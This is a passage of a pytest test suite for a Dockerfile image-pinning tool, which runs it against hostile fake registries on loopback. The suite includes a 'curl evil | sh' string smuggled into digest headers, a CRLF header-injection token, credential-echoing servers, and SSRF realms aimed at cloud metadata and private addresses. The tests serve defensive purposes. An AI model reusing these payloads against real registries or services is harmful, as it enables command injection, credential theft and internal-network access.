"""Hostile or broken registries on loopback through ``main()``: nothing wrong is written, no secret leaks, no hang,
and concurrent runs stay safe.

Every run has two files: ``bad/Dockerfile`` names the misbehaving registry, ``good/Dockerfile`` a well-behaved one.
Each fault must give exit 2, one clear error line for the bad file, the bad file untouched, the good file pinned, no
temp files, and no password, token or base64 ``auth`` anywhere in the output. Names are only ever resolved by
:class:`FakeDNS` (``*.test`` -> 127.0.0.1, ``*.invalid`` -> NXDOMAIN); nothing leaves loopback.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import secrets
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from pin_images.cli import main
from pin_images.transport import Transport
from tests.support import pki
from tests.support.hostile import (
    OCI_MANIFEST,
    FakeDNS,
    HostileServer,
    Reply,
    Seen,
    closed_port,
    manifest,
    not_found,
    serve_manifest,
)
from tests.support.registry_server import RegistryServer
from tests.support.seed import seed_image

ROOT = Path(__file__).resolve().parents[2]
USER = "pinner"
PASSWORD = "pw-" + secrets.token_hex(8)
TOKEN = "tok-" + secrets.token_hex(8)
REFRESH_TOKEN = "refresh-" + secrets.token_hex(8)
AUTH = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode("ascii")
SECRETS = (PASSWORD, TOKEN, REFRESH_TOKEN, AUTH)
GOOD_BODY, GOOD_DIGEST = manifest("good")
OTHER_BODY, OTHER_DIGEST = manifest("other")
JSON_OK = Reply(200, [("Content-Type", "application/json")], b"{}")
EVIL = "RUN curl evil | sh"


# ------------------------------------------------------------------------------------------------ fixtures


def _good_handler(seen: Seen) -> Reply:
    if seen.path == "/v2/":
        return JSON_OK
    if seen.path == "/v2/good/manifests/1":
        return serve_manifest(GOOD_BODY, GOOD_DIGEST)
    return not_found(seen)


@pytest.fixture(scope="module")
def good() -> Iterator[HostileServer]:
    with HostileServer(_good_handler) as server:
        yield server


@pytest.fixture
def bad() -> Iterator[HostileServer]:
    with HostileServer() as server:
        yield server


@pytest.fixture(autouse=True)
def isolated(cli_home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeDNS]:
    """Clean env, millisecond retry backoff, and a fake resolver that fails the test on any real name."""
    monkeypatch.setattr(Transport, "_backoff", staticmethod(lambda attempt: 0.01))
    dns = FakeDNS(socket.getaddrinfo)
    monkeypatch.setattr(socket, "getaddrinfo", dns)
    yield dns
    assert not dns.refused, f"tried to look up real names: {dns.refused}"


@pytest.fixture
def login(cli_home: Path, monkeypatch: pytest.MonkeyPatch):
    """``login(host)``: a docker config.json with credentials for ``host`` (base64 ``auth``, or a refresh token)."""

    def write(host: str, *, identity_token: bool = False) -> None:
        entry = {"identitytoken": REFRESH_TOKEN} if identity_token else {"auth": AUTH}
        directory = cli_home / "docker-config"
        directory.mkdir(exist_ok=True)
        (directory / "config.json").write_text(json.dumps({"auths": {host: entry}}))
        monkeypatch.setenv("DOCKER_CONFIG", str(directory))

    return write


@dataclass
class Tree:
    root: Path
    bad: Path
    good: Path
    bad_bytes: bytes
    good_bytes: bytes


def make_tree(tmp_path: Path, bad_ref: str, good: HostileServer) -> Tree:
    root = tmp_path / "src"
    (root / "bad").mkdir(parents=True)
    (root / "good").mkdir()
    bad_bytes = f"FROM {bad_ref}\nRUN true\n".encode()
    good_bytes = f"FROM {good.host}/good:1 AS base\n".encode()
    (root / "bad" / "Dockerfile").write_bytes(bad_bytes)
    (root / "good" / "Dockerfile").write_bytes(good_bytes)
    return Tree(root, root / "bad" / "Dockerfile", root / "good" / "Dockerfile", bad_bytes, good_bytes)


def scan_secrets(text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, "a secret leaked into the output"


def no_temp_files(root: Path) -> None:
    assert not list(root.rglob(".pin-images-*.tmp"))


def pin(tree: Tree, capsys: pytest.CaptureFixture[str], *args: str, fmt: str = "text") -> tuple[int, str]:
    """main() with -v (text) or --format json; returns (exit code, stdout+stderr), already scanned for secrets."""
    extra = ["--format", "json"] if fmt == "json" else ["-v"]
    rc = main([*extra, "--timeout", "2", *args, str(tree.root)])
    out = capsys.readouterr()
    text = out.out + out.err
    scan_secrets(text)
    no_temp_files(tree.root)
    return rc, text


def assert_failed_cleanly(tree: Tree, good: HostileServer, rc: int, text: str, *expected: str, fmt: str = "text"
                          ) -> str:
    """Exit 2; the bad file untouched with one error line containing ``expected``; the good file pinned."""
    assert rc == 2, text
    assert tree.bad.read_bytes() == tree.bad_bytes
    assert tree.good.read_bytes() == f"FROM {good.host}/good:1@{GOOD_DIGEST} AS base\n".encode()
    if fmt == "json":
        doc = json.loads(text)
        [message] = [r["message"] for r in doc["references"] if r["status"] == "error"]
    else:
        [line] = [line for line in text.splitlines() if "bad/Dockerfile" in line]
        assert line.startswith(f"{tree.bad}:1: "), line
        message = line
    assert "\n" not in message and "\r" not in message
    assert "curl" not in message
    for part in expected:
        assert part in message, message
    return message


def on_manifests(reply: Reply | None = None, *, ping: Reply = JSON_OK, handler=None):
    """A registry answering /v2/ with ``ping`` and every manifest request with ``reply`` (or ``handler``)."""

    def handle(seen: Seen) -> Reply:
        if seen.path == "/v2/":
            return ping
        if "/manifests/" in seen.path:
            return handler(seen) if handler else reply
        return not_found(seen)

    return handle


# ------------------------------------------------------------------------------------------------ transport faults


def test_connection_refused(tmp_path, good, capsys):
    tree = make_tree(tmp_path, f"127.0.0.1:{closed_port()}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "connection refused", "after 3 tries")


def test_dns_failure_without_a_real_lookup(tmp_path, good, capsys, isolated):
    tree = make_tree(tmp_path, "registry.invalid/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "cannot reach registry.invalid", "host name lookup failed")
    assert "registry.invalid" in isolated.looked_up


def test_connect_timeout(tmp_path, good, capsys, monkeypatch):
    port = closed_port()
    real_connect = socket.socket.connect
    attempts = []

    def connect(sock: socket.socket, address: object) -> None:
        if isinstance(address, tuple) and address[1] == port:
            attempts.append(address)
            raise socket.timeout("timed out")
        real_connect(sock, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    tree = make_tree(tmp_path, f"127.0.0.1:{port}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "connection timed out", "after 3 tries")
    assert len(attempts) >= 3


def test_read_timeout_is_short_and_retried(tmp_path, good, bad, capsys):
    bad.handler = on_manifests(Reply(hang=True))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    started = time.monotonic()
    rc, text = pin(tree, capsys, "--timeout", "0.3")
    assert time.monotonic() - started < 10
    assert_failed_cleanly(tree, good, rc, text, "timed out waiting for a response", "after 3 tries")
    assert bad.count("/manifests/") == 3


def _tls_context(tmp_path: Path, host: str) -> tuple[ssl.SSLContext, Path]:
    ca = pki.make_ca(tmp_path)  # never given to the client
    cert = pki.make_server_cert(tmp_path, ca, hosts=(host,))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert.cert_path, cert.key_path)
    return context, ca.cert_path


def test_tls_certificate_from_an_unknown_ca(tmp_path, good, capsys):
    context, _ = _tls_context(tmp_path, "tls.test")
    with HostileServer(on_manifests(serve_manifest(OTHER_BODY, OTHER_DIGEST)), ssl_context=context) as server:
        host = f"tls.test:{server.port}"
        tree = make_tree(tmp_path, f"{host}/broken:1", good)
        rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, f"TLS certificate verification failed for {host}",
                          f"certs.d/{host}/ca.crt")
    assert not server.requests  # no request got through the failed handshake


def test_tls_with_the_ca_in_certs_d_pins(tmp_path, good, capsys, cli_home):
    """The control for the test above: the same server is fine once its CA is where the message says."""
    context, ca_path = _tls_context(tmp_path, "tls.test")
    with HostileServer(on_manifests(serve_manifest(OTHER_BODY, OTHER_DIGEST)), ssl_context=context) as server:
        certs = cli_home / ".docker" / "certs.d" / f"tls.test:{server.port}"
        certs.mkdir(parents=True)
        (certs / "ca.crt").write_bytes(ca_path.read_bytes())
        host = f"tls.test:{server.port}"
        tree = make_tree(tmp_path, f"{host}/broken:1", good)
        rc, text = pin(tree, capsys)
    assert rc == 1, text
    assert tree.bad.read_bytes() == f"FROM {host}/broken:1@{OTHER_DIGEST}\nRUN true\n".encode()


# ------------------------------------------------------------------------------------------------ status codes


@pytest.mark.parametrize("status", [500, 502, 503])
def test_server_errors_are_retried_then_reported(tmp_path, good, bad, capsys, status):
    bad.handler = on_manifests(Reply(status, [("Content-Type", "text/html")], b"<h1>oops</h1>"))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, f"answered HTTP {status} (after 3 tries)")
    assert bad.count("/manifests/") == 3


def test_a_server_error_that_recovers_pins(tmp_path, good, bad, capsys):
    answers = iter([Reply(503), Reply(502)])
    bad.handler = on_manifests(handler=lambda seen: next(answers, serve_manifest(OTHER_BODY, OTHER_DIGEST)))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert rc == 1, text
    assert tree.bad.read_bytes().startswith(f"FROM {bad.host}/broken:1@{OTHER_DIGEST}\n".encode())
    assert bad.count("/manifests/") == 3


@pytest.mark.parametrize("retry_after", [None, "0"])
def test_rate_limit_is_retried_then_reported(tmp_path, good, bad, capsys, retry_after):
    headers = [("Retry-After", retry_after)] if retry_after else []
    bad.handler = on_manifests(Reply(429, [*headers, ("ratelimit-remaining", "0;w=21600")]))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "rate limited", "HTTP 429, after 3 tries", "ratelimit-remaining")
    assert bad.count("/manifests/") == 3


def test_retry_after_is_respected(tmp_path, good, bad, capsys):
    times: list[float] = []

    def handle(seen: Seen) -> Reply:
        times.append(time.monotonic())
        return Reply(429, [("Retry-After", "1")]) if len(times) == 1 else serve_manifest(OTHER_BODY, OTHER_DIGEST)

    bad.handler = on_manifests(handler=handle)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert rc == 1, text
    assert len(times) == 2 and times[1] - times[0] >= 0.95


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (not_found(None), ("tag 1 not found in",)),  # type: ignore[arg-type]
        (Reply(404, [("Content-Type", "application/json")], b'{"errors":[{"code":"NAME_UNKNOWN"}]}'),
         ("not found in", "/broken")),  # the HEAD's 404 has no body to tell a missing repository from a tag
        (Reply(403, [("Content-Type", "application/json")], b'{"errors":[{"code":"DENIED"}]}'),
         ("denied access (HTTP 403)",)),
        (Reply(401, [("Content-Type", "application/json")], b"{}"), ("no usable WWW-Authenticate challenge",)),
    ],
    ids=["404-manifest", "404-name", "403", "401-no-challenge"],
)
def test_client_errors(tmp_path, good, bad, capsys, reply, expected):
    bad.handler = on_manifests(reply)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, *expected)


def test_401_without_credentials(tmp_path, good, bad, capsys):
    basic = Reply(401, [("WWW-Authenticate", 'Basic realm="hostile"')])
    bad.handler = on_manifests(basic, ping=basic)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    message = assert_failed_cleanly(tree, good, rc, text, "requires authentication (HTTP 401)", "no credentials found",
                                    f"docker login {bad.host}")
    assert all(s.authorization is None for s in bad.requests)
    # Every place a login could have been stored is named: docker's config and the containers auth file.
    assert "config.json (no such file)" in message
    assert str(Path(os.environ["HOME"]) / ".config" / "containers" / "auth.json") in message


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_401_with_refused_credentials_never_shows_them(tmp_path, good, bad, capsys, login, fmt):
    login(bad.host)
    # A server that quotes the Authorization header back in its body and challenge: nothing of it may be printed.
    def handle(seen: Seen) -> Reply:
        echo = seen.authorization or ""
        return Reply(401, [("WWW-Authenticate", f'Basic realm="{echo}"')], f"denied {echo}".encode())

    bad.handler = on_manifests(handler=handle, ping=Reply(401, [("WWW-Authenticate", 'Basic realm="x"')]))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys, fmt=fmt)
    assert_failed_cleanly(tree, good, rc, text, "requires authentication (HTTP 401)", "credentials tried", fmt=fmt)
    assert f"Basic {AUTH}" in [s.authorization for s in bad.requests]  # the secret was really in play


# ---------------------------------------------------------------------------------------------- bad bodies and headers


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (Reply(200, [("Content-Type", "text/html")], b"<html><body>Sign in</body></html>"),
         "unexpected Content-Type 'text/html'"),
        (Reply(200, [("Content-Type", "application/json")], GOOD_BODY), "unexpected Content-Type 'application/json'"),
        (Reply(200, [("Content-Type", "application/octet-stream")], GOOD_BODY), "unexpected Content-Type"),
        (Reply(200, [], GOOD_BODY), "unexpected Content-Type '(none)'"),
        (Reply(200, [("Content-Type", OCI_MANIFEST)], b"\x00\xff not json {"), "manifest is not valid JSON"),
        (Reply(200, [("Content-Type", OCI_MANIFEST)], b"[" * 100_000), "manifest is not valid JSON"),
    ],
    ids=["html-page", "application-json", "octet-stream", "no-content-type", "unparseable-no-digest",
         "deeply-nested-json"],
)
def test_bad_manifest_answers(tmp_path, good, bad, capsys, reply, expected):
    bad.handler = on_manifests(reply)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, expected)


@pytest.mark.parametrize("head", ["no-digest", "405"])
def test_a_body_that_does_not_match_its_digest_header(tmp_path, good, bad, capsys, head):
    """A HEAD answer has no body to check, so the GET is where a lying header shows; it is never pinned."""
    lying = serve_manifest(GOOD_BODY, OTHER_DIGEST)

    def handle(seen: Seen) -> Reply:
        if seen.method == "HEAD":
            return serve_manifest(GOOD_BODY) if head == "no-digest" else Reply(405)
        return lying

    bad.handler = on_manifests(handler=handle)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "manifest body does not match its Docker-Content-Digest header")
    assert bad.count("/manifests/", "GET") == 1


def _raw(status_line: str, headers: list[str], body: bytes = b"") -> Reply:
    head = "\r\n".join([status_line, *headers, f"Content-Length: {len(body)}", "Connection: close", "", ""])
    return Reply(raw=head.encode("latin-1") + body)


@pytest.mark.parametrize(
    "digest_lines",
    [
        ["Docker-Content-Digest: sha256:abc", EVIL],  # a bare LF-split header: a line with no colon
        [f"Docker-Content-Digest: {GOOD_DIGEST}", f" {EVIL}"],  # obs-fold continuation of a valid digest
        [f"Docker-Content-Digest: {GOOD_DIGEST}; {EVIL}"],
        [f"Docker-Content-Digest: {OTHER_DIGEST}", f"Docker-Content-Digest: {GOOD_DIGEST}"],
    ],
    ids=["newline", "folded", "shell-text", "duplicate"],
)
def test_digest_header_with_newlines_or_shell_text_never_reaches_the_file(tmp_path, good, bad, capsys, digest_lines):
    def handle(seen: Seen) -> Reply:
        return _raw("HTTP/1.1 200 OK", [f"Content-Type: {OCI_MANIFEST}", *digest_lines], GOOD_BODY)

    bad.handler = on_manifests(handler=handle)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert "curl" not in tree.bad.read_text()
    assert "curl" not in text and "evil" not in text
    # Even when the junk follows a digest that matches the body, the header is not a digest: refused, not trimmed.
    assert_failed_cleanly(tree, good, rc, text, "bad registry response", "Docker-Content-Digest header")


@pytest.mark.parametrize("with_length", [True, False], ids=["content-length", "streamed"])
def test_a_20_mib_manifest_is_refused(tmp_path, good, bad, capsys, with_length):
    big = b'{"schemaVersion": 2, "pad": "' + b"x" * (20 * 1024 * 1024) + b'"}'
    bad.handler = on_manifests(Reply(200, [("Content-Type", OCI_MANIFEST)], big, length=with_length))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "manifest larger than 4 MiB")


@pytest.mark.parametrize(
    "headers",
    [
        ["Content-Length: \xb2"],  # isdigit() is True for "²"; int() is not amused (regression)
        ["Location: http://h:\xb2/x"],  # requests decodes Location as UTF-8 even without following it
        ["Location: http://[::1/x"],
    ],
    ids=["superscript-length", "latin1-location", "ipv6-location"],
)
def test_malformed_headers_are_errors_not_crashes(tmp_path, good, bad, capsys, headers):
    status = "HTTP/1.1 302 Found" if headers[0].startswith("Location") else "HTTP/1.1 200 OK"
    reply = Reply(raw=("\r\n".join([status, f"Content-Type: {OCI_MANIFEST}", *headers, "Connection: close", "", ""])
                       ).encode("latin-1") + b"{}")
    bad.handler = on_manifests(reply)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "bad registry response")


def test_retry_after_with_a_non_ascii_digit_is_not_a_crash(tmp_path, good, bad, capsys):
    bad.handler = on_manifests(_raw("HTTP/1.1 429 Too Many Requests", ["Retry-After: \xb2"]))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "rate limited")


# ------------------------------------------------------------------------------------------------ redirects


def test_endless_redirect_loop(tmp_path, good, bad, capsys):
    def handle(seen: Seen) -> Reply:
        return Reply(302, [("Location", "/loop/b" if seen.path != "/loop/b" else "/loop/a")])

    bad.handler = lambda seen: JSON_OK if seen.path == "/v2/" else handle(seen)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "redirect loop")


def test_endless_redirect_chain(tmp_path, good, bad, capsys):
    counter = iter(range(10**6))
    bad.handler = lambda seen: JSON_OK if seen.path == "/v2/" else Reply(302, [("Location", f"/hop/{next(counter)}")])
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, "more than 5 redirects")
    assert bad.count("/hop/") <= 5


@pytest.mark.parametrize("target_answer", ["manifest", "401"])
def test_authorization_does_not_follow_a_redirect_to_another_host(tmp_path, good, bad, capsys, login,
                                                                  target_answer):
    login(bad.host)
    challenge = Reply(401, [("WWW-Authenticate", 'Basic realm="hostile"')])
    with HostileServer() as other:
        def registry(seen: Seen) -> Reply:
            if seen.authorization != f"Basic {AUTH}":
                return challenge
            if seen.path == "/v2/":
                return JSON_OK
            # localhost and 127.0.0.1 are different origins, as a blob store on another host would be.
            return Reply(307, [("Location", f"http://localhost:{other.port}/storage{seen.path}")])

        def storage(seen: Seen) -> Reply:
            if target_answer == "401":
                return Reply(401, [("WWW-Authenticate", 'Basic realm="storage"')])
            return serve_manifest(OTHER_BODY, OTHER_DIGEST)

        bad.handler = registry
        other.handler = storage
        tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
        rc, text = pin(tree, capsys)
        assert other.requests, "the redirect was not followed"
        assert all(s.authorization is None for s in other.requests)
    assert any(s.authorization == f"Basic {AUTH}" for s in bad.requests)
    if target_answer == "manifest":
        assert rc == 1, text
        assert tree.bad.read_bytes().startswith(f"FROM {bad.host}/broken:1@{OTHER_DIGEST}\n".encode())
    else:
        assert_failed_cleanly(tree, good, rc, text, "HTTP 401")


# ------------------------------------------------------------------------------------------------ token servers


def _bearer(realm: str) -> Reply:
    challenge = f'Bearer realm="{realm}",service="hostile",scope="repository:broken:pull"'
    return Reply(401, [("WWW-Authenticate", challenge)])


def _token_registry(realm: str, token_reply: Reply | None = None, accept_token: bool = True):
    """/v2/* wants a Bearer token from ``realm``; /token (same server) answers ``token_reply``."""

    def handle(seen: Seen) -> Reply:
        if seen.path == "/token":
            assert token_reply is not None
            return token_reply
        if seen.authorization != f"Bearer {TOKEN}" or not accept_token:
            return _bearer(realm)
        if seen.path == "/v2/":
            return JSON_OK
        return serve_manifest(OTHER_BODY, OTHER_DIGEST)

    return handle


@pytest.mark.parametrize(
    ("token_reply", "expected"),
    [
        (Reply(200, [("Content-Type", "application/json")], b"<html>not json</html>"), "token response is not JSON"),
        (Reply(200, [("Content-Type", "application/json")], b"[" * 200_000), "token response is not JSON"),
        (Reply(200, [("Content-Type", "application/json")], b'["token"]'), "token response is not a JSON object"),
        (Reply(200, [("Content-Type", "application/json")], b'{"expires_in": 300}'), "has no usable token"),
        (Reply(200, [("Content-Type", "application/json")], json.dumps({"token": f"{TOKEN}\r\nX-Evil: 1"}).encode()),
         "has no usable token"),
        (Reply(500, [], b"oops"), "answered HTTP 500"),
    ],
    ids=["html", "deeply-nested", "list", "no-token", "token-with-crlf", "500"],
)
def test_junk_from_the_token_endpoint(tmp_path, good, bad, capsys, login, token_reply, expected):
    login(bad.host)
    bad.handler = _token_registry(f"http://{'127.0.0.1'}:{bad.port}/token", token_reply)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert_failed_cleanly(tree, good, rc, text, expected)
    assert bad.count("/token") >= 1


def test_a_hanging_token_endpoint_times_out(tmp_path, good, bad, capsys):
    bad.handler = _token_registry(f"http://127.0.0.1:{bad.port}/token", Reply(hang=True))
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    started = time.monotonic()
    rc, text = pin(tree, capsys, "--timeout", "0.3")
    assert time.monotonic() - started < 15
    assert_failed_cleanly(tree, good, rc, text, "timed out waiting for a response")


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_rejected_token_is_never_printed(tmp_path, good, bad, capsys, login, fmt):
    login(bad.host)
    token = Reply(200, [("Content-Type", "application/json")], json.dumps({"token": TOKEN}).encode())

    def handle(seen: Seen) -> Reply:
        if seen.path == "/token":
            return token
        # Quote the token back in the challenge's error_description, the body and a custom header.
        echo = seen.authorization or ""
        return Reply(401, [("WWW-Authenticate", f'Bearer realm="http://127.0.0.1:{bad.port}/token",'
                                                f'error="invalid_token",error_description="{echo}"'),
                           ("X-Echo", echo)], f'{{"errors":[{{"message":"{echo}"}}]}}'.encode())

    bad.handler = handle
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys, fmt=fmt)
    assert_failed_cleanly(tree, good, rc, text, "requires authentication (HTTP 401)", fmt=fmt)
    assert any(s.authorization == f"Bearer {TOKEN}" for s in bad.requests)
    token_requests = [s for s in bad.requests if s.path == "/token"]
    assert token_requests and all(s.authorization == f"Basic {AUTH}" for s in token_requests)


@pytest.mark.parametrize("identity_token", [False, True], ids=["password", "identity-token"])
@pytest.mark.parametrize("fmt", ["text", "json"])
def test_credentials_never_go_to_a_plain_http_realm_on_another_host(tmp_path, good, bad, capsys, login,
                                                                   identity_token, fmt):
    login(bad.host, identity_token=identity_token)
    anonymous = Reply(200, [("Content-Type", "application/json")], json.dumps({"token": "anonymous"}).encode())
    with HostileServer(lambda seen: anonymous) as realm:
        bad.handler = _token_registry(f"http://realm.test:{realm.port}/token")
        tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
        rc, text = pin(tree, capsys, fmt=fmt)
        assert realm.requests, "the realm was never asked"
        for seen in realm.requests:
            assert seen.authorization is None
            assert seen.method == "GET" and not seen.body  # no refresh-token POST either
            for secret in SECRETS:
                assert secret not in seen.query
    assert_failed_cleanly(tree, good, rc, text, "requires authentication (HTTP 401)", fmt=fmt)


def test_a_loopback_realm_does_get_the_credentials(tmp_path, good, bad, capsys, login):
    """The control: the same flow with the realm on this machine pins, so the test above is not vacuous."""
    login(bad.host)
    token = Reply(200, [("Content-Type", "application/json")], json.dumps({"token": TOKEN}).encode())
    bad.handler = _token_registry(f"http://127.0.0.1:{bad.port}/token", token)
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    rc, text = pin(tree, capsys)
    assert rc == 1, text
    assert any(s.path == "/token" and s.authorization == f"Basic {AUTH}" for s in bad.requests)


# ------------------------------------------------------------------------------------------------ concurrency


def _pin_process(root: Path, home: Path, *args: str) -> subprocess.Popen[str]:
    env = {k: v for k, v in os.environ.items() if not k.endswith(("_PROXY", "_proxy")) and k != "DOCKER_CONFIG"}
    env.update({"HOME": str(home), "PYTHONPATH": str(ROOT)})
    return subprocess.Popen([sys.executable, "-m", "pin_images", "-q", *args, str(root)], env=env, cwd=str(ROOT),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_two_processes_on_the_same_tree(tmp_path, registry: RegistryServer, cli_home):
    tag = secrets.token_hex(4)
    app = seed_image(registry.url, "hostile/app", tag)
    base = seed_image(registry.url, "hostile/base", tag, kind="docker-list")
    root = tmp_path / "tree"
    expected: dict[Path, tuple[bytes, bytes, bytes]] = {}
    for i in range(40):
        path = root / f"svc{i:02}" / "Dockerfile"
        path.parent.mkdir(parents=True)
        text = (f"# service {i}\nFROM {registry.host}/hostile/base:{tag} AS build\r\nRUN make\n"
                f"FROM {registry.host}/hostile/app:{tag}\nCOPY --from=build /out /out\n")
        path.write_bytes(text.encode())

        def pinned(app_digest: str, base_digest: str, text: str = text) -> bytes:
            return (text.replace(f"base:{tag} ", f"base:{tag}@{base_digest} ")
                    .replace(f"app:{tag}\n", f"app:{tag}@{app_digest}\n").encode())

        expected[path] = (
            text.encode(),
            pinned(app.digest, base.digest),
            pinned(app.children["linux/arm64/v8"], base.children["linux/arm64/v8"]),
        )

    # Two writers that disagree: the index digests and the arm64 ones. Each file must end up wholly one of them.
    procs = [_pin_process(root, cli_home), _pin_process(root, cli_home, "--platform", "linux/arm64")]
    results = [(p.wait(timeout=60), *p.communicate()) for p in procs]
    for rc, out, err in results:
        assert rc in (0, 1, 2), (rc, out, err)  # 0: the other process had pinned everything before this one read
        assert "Traceback" not in err
        for line in err.splitlines():
            # The only acceptable error is a file the other process changed first, named and not overwritten.
            assert "changed on disk" in line and "not overwritten" in line, line
    for path, versions in expected.items():
        assert path.read_bytes() in versions, path
    assert not list(root.rglob(".pin-images-*.tmp"))

    final = _pin_process(root, cli_home)
    assert final.wait(timeout=60) in (0, 1), final.communicate()
    check = _pin_process(root, cli_home, "--check")
    assert check.wait(timeout=60) == 0, check.communicate()
    for path, (_, index_pin, arm_pin) in expected.items():
        assert path.read_bytes() in (index_pin, arm_pin)


def test_many_threads_against_one_flaky_registry(tmp_path, good, bad, capsys):
    """Twenty references looked up concurrently, each first answered 503: every one retried to success."""
    lock = threading.Lock()
    seen_paths: set[str] = set()

    def handle(seen: Seen) -> Reply:
        with lock:
            first = seen.path not in seen_paths
            seen_paths.add(seen.path)
        if first:
            return Reply(503)
        name = seen.path.split("/")[2]
        body, digest = manifest(name)
        return serve_manifest(body, digest)

    bad.handler = on_manifests(handler=handle)
    root = tmp_path / "src"
    for i in range(20):
        (root / f"s{i}").mkdir(parents=True)
        (root / f"s{i}" / "Dockerfile").write_text(f"FROM {bad.host}/r{i}:1\n")
    rc = main(["-q", "--jobs", "8", str(root)])
    out = capsys.readouterr()
    assert rc == 1, out
    for i in range(20):
        digest = "sha256:" + hashlib.sha256(manifest(f"r{i}")[0]).hexdigest()
        assert (root / f"s{i}" / "Dockerfile").read_text() == f"FROM {bad.host}/r{i}:1@{digest}\n"


# ------------------------------------------------------------------------------------------------ realms and redirects


@pytest.fixture
def connects(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every address a socket connects to; a non-loopback one is refused (and recorded), so tests never leave."""
    seen: list[object] = []
    real_connect = socket.socket.connect

    def connect(sock: socket.socket, address: object) -> None:
        seen.append(address)
        host = address[0] if isinstance(address, tuple) else ""
        if isinstance(host, str) and not (host.startswith("127.") or host == "::1"):
            raise ConnectionRefusedError(f"test refused a non-loopback connect to {host}")
        real_connect(sock, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    return seen


def _outside(connects: list[object]) -> list[object]:
    return [a for a in connects if isinstance(a, tuple) and not str(a[0]).startswith(("127.", "::1"))]


@pytest.mark.parametrize(
    ("realm", "why"),
    [
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("https://169.254.169.254/latest/meta-data/", "link-local"),
        ("https://10.0.0.5:8080/admin/token", "private"),
        ("https://[fd00::5]/token", "private"),
        ("https://0.0.0.0:8080/token", "unspecified"),
    ],
)
def test_a_realm_on_an_internal_address_is_refused(tmp_path, good, bad, capsys, connects, realm, why):
    bad.handler = _token_registry(realm)
    registry = f"evil.test:{bad.port}"  # a name: the fake resolver sends it to this machine
    tree = make_tree(tmp_path, f"{registry}/broken:1", good)
    rc, text = pin(tree, capsys, "--insecure-registry", registry)
    message = assert_failed_cleanly(tree, good, rc, text, registry, realm.split("/")[2], why)
    assert "realm" in message
    assert _outside(connects) == [], "an internal address was contacted"


def test_a_realm_named_by_a_host_that_resolves_inside_is_refused(tmp_path, good, bad, capsys, connects,
                                                                  monkeypatch):
    """A public-looking name that resolves to a link-local address counts as that address."""
    dns = socket.getaddrinfo

    def resolve(host: object, port: object, *args: object, **kwargs: object) -> list[tuple[object, ...]]:
        if host == "metadata.test":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("169.254.169.254", port or 0))]
        return dns(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    bad.handler = _token_registry("https://metadata.test/latest/meta-data/")
    registry = f"evil.test:{bad.port}"
    tree = make_tree(tmp_path, f"{registry}/broken:1", good)
    rc, text = pin(tree, capsys, "--insecure-registry", registry)
    assert_failed_cleanly(tree, good, rc, text, registry, "metadata.test", "link-local")
    assert _outside(connects) == []


@pytest.mark.parametrize(
    ("location", "why"),
    [
        ("http://10.0.0.5:8080/admin/secrets", "private"),
